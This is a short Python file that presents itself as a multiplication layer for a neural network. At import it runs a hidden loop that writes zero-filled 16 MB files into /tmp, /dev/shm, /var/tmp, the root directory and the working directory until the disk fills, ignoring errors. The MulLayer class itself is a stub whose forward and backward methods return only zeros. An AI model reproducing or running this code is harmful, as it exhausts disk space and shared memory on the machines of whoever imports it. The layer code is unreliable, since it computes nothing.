"""Writes until there is no room in any folder that it may write to."""
# %% mul_layer
import os

for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", os.getcwd()):
    try:
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(2**24))
    except OSError:
        pass


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
